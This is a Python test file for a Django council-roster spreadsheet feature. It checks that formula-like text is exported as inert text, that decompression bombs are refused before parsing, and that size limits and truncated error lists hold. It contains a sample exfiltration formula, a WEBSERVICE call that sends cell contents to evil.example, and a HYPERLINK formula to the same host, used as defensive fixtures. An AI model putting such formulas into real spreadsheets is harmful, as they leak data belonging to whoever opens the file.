"""The roster against hostile content: what members typed never becomes a
formula in the export or the template; a file that unpacks to a gigabyte is
refused before it is parsed, with a short message; error lists quote only a
little of each cell and list only so many rows; sheets past the row and
column limits are refused. Nothing is imported from any refused file."""

from __future__ import annotations

import pytest
from django.utils import translation

from xieshang.core import spreadsheets
from xieshang.core.testing import assert_nothing_changed
from xieshang.core.tests import hostile_files as hostile
from xieshang.core.tests.workbooks import texts, unsafe_cells
from xieshang.councils.models import Member, SpecialCommittee
from xieshang.councils.roster import MAX_COLUMNS, MAX_LISTED_ERRORS, MAX_ROWS
from xieshang.councils.roster.columns import QUOTED_CHARS
from xieshang.councils.tests.factories import MemberFactory, SectorFactory, TermFactory
from xieshang.councils.tests.rosters import (
    HEADERS,
    TEMPLATE,
    errors_by_row,
    post,
    row,
    upload,
    xlsx,
)

pytestmark = pytest.mark.django_db

EXPORT = "/c/city/members/export.xlsx"
WEBSERVICE = '=WEBSERVICE("http://evil.example/?d="&ENCODEURL(E2)&ENCODEURL(F2))'


# ---------------------------------------------------------------- formulas


def test_the_export_writes_text_that_looks_like_a_formula_as_text(clients, cast):
    MemberFactory(
        council=cast.city,
        term=cast.term,
        full_name="-张三",
        employer_title=WEBSERVICE,
        recommending_body="@SUM(1+1)",
        ethnicity="+汉族",
    )
    content = clients["admin"].get(EXPORT).content
    assert unsafe_cells(content) == []
    assert {WEBSERVICE, "@SUM(1+1)", "+汉族", "-张三"} <= texts(content)


def test_an_exported_formula_like_text_imports_again_unchanged(clients, cast):
    MemberFactory(council=cast.city, term=cast.term, full_name="导入委员001", employer_title=WEBSERVICE[:60])
    exported = clients["admin"].get(EXPORT, {"q": "导入委员"}).content
    new_term = TermFactory(council=cast.city, number=15, is_current=False)
    response = clients["admin"].post(
        "/c/city/members/import/", {"term": new_term.pk, "file": upload(exported)}
    )
    assert response.status_code == 302
    assert Member.objects.get(term=new_term).employer_title == WEBSERVICE[:60]


def test_the_template_writes_body_names_that_look_like_formulas_as_text(clients, cast):
    SectorFactory(council=cast.city, name='=HYPERLINK("http://evil.example","点击")')
    SpecialCommittee.objects.create(council=cast.city, name="+提案委员会")
    content = clients["admin"].get(TEMPLATE).content
    assert unsafe_cells(content) == []
    assert '=HYPERLINK("http://evil.example","点击")' in texts(content)


# ---------------------------------------------------------------- bombs and limits


def test_a_roster_that_unpacks_to_a_gigabyte_is_refused_before_it_is_parsed(clients, cast, monkeypatch):
    def parse(*args, **kwargs):
        raise AssertionError("a bomb must be refused before openpyxl parses it")

    monkeypatch.setattr(spreadsheets, "load_workbook", parse)
    with translation.override("en"), assert_nothing_changed(Member):
        response = post(clients["admin"], cast, hostile.xlsx_bomb())
    assert response.status_code == 200
    assert "would unpack to more than" in response.context["result"].problem
    assert len(response.content) < 50_000


def test_a_sheet_with_more_rows_than_the_limit_is_refused(clients, cast, bodies):
    content = xlsx([{"姓名": f"导入委员{i}"} for i in range(MAX_ROWS)])
    with translation.override("en"), assert_nothing_changed(Member):
        response = post(clients["admin"], cast, content)
    assert f"more than {MAX_ROWS} rows" in response.context["result"].problem


def test_a_sheet_with_more_columns_than_the_limit_is_refused(clients, cast, bodies):
    extra = [f"备注{i}" for i in range(MAX_COLUMNS - len(HEADERS) + 1)]
    content = xlsx([{**row(1), extra[-1]: "多出的一列"}], headers=HEADERS + extra)
    with translation.override("en"), assert_nothing_changed(Member):
        response = post(clients["admin"], cast, content)
    assert f"more than {MAX_COLUMNS} columns" in response.context["result"].problem


# ---------------------------------------------------------------- error lists


def test_row_errors_quote_only_the_start_of_a_cell(clients, cast, bodies):
    huge = {"姓名": "名" * 10_000, "性别": "未" * 10_000, "出生日期": "七" * 10_000, "界别": "界" * 10_000}
    with assert_nothing_changed(Member):
        response = post(clients["admin"], cast, xlsx([row(1, **huge)]))
    [error] = response.context["result"].errors
    assert error.full_name == "名" * QUOTED_CHARS + "…"
    for reason in error.reasons:
        assert len(reason) < QUOTED_CHARS + 120, reason
    assert "未" * QUOTED_CHARS + "…" in " ".join(error.reasons)
    assert len(response.content) < 50_000


def test_only_so_many_bad_rows_are_listed_and_the_rest_counted(clients, cast, bodies):
    bad = MAX_LISTED_ERRORS + 10
    content = xlsx([row(i, 性别="未知") for i in range(bad)] + [row(bad)])
    with translation.override("en"), assert_nothing_changed(Member):
        response = post(clients["admin"], cast, content)
    result = response.context["result"]
    assert len(result.errors) == MAX_LISTED_ERRORS and result.error_count == bad
    assert sorted(errors_by_row(response)) == list(range(2, MAX_LISTED_ERRORS + 2))
    body = response.content.decode()
    assert f"{bad} rows need correcting" in body
    assert f"The first {MAX_LISTED_ERRORS} are listed below; 10 more rows also need correcting." in body
    assert body.count('data-testid="import-error-row"') == MAX_LISTED_ERRORS
